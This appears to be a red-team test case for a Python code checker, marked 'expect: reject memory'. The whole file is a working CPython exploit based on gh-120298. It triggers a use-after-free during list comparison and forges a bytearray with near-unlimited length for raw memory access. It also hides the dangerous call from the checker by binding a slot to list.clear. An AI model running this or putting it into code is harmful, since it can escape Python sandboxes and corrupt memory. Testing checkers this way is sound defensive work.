# expect: reject memory
# line: 19
# verified: plain python3 3.11.2 (/usr/bin/python3 -I): prints 'bytearray 0x4000000000000000' (raw memory)
# why: gh-120298, allowance (a) red team: __lt__ calls s.area(), area being a def of the program's, but the instance's slot `area` holds a list's clear (`s.area = vl.clear`): a name stored as an attribute is bound otherwise than by a def, so the call's callee is not seen
keep = []
W = lambda v: v.to_bytes(8, "little")
FAKE = (W(0) + W(0) + W(1 << 40) + W(id(bytearray)) + W(1 << 62) + W(1 << 62)
        + W(0) + W(0) + W(1))[:73]
vl = []
class Shape:
    def area(s):
        return 0
class V:
    __slots__ = ("a", "b", "c", "d", "e", "area")
    def __init__(s):
        s.area = vl.clear
    def __eq__(s, o): return False
    def __lt__(s, o):
        s.area()
        return NotImplemented
class Wc:
    def __eq__(s, o): return False
    def __gt__(s, o):
        keep.append(bytearray(FAKE))
        keep.append(o)
        return False
def raw_memory():
    w = Wc()
    vl.append(V())
    vl < [w]
    keep.append(w)
    return keep[-2]
mem = raw_memory()
print(type(mem).__name__, hex(len(mem)))
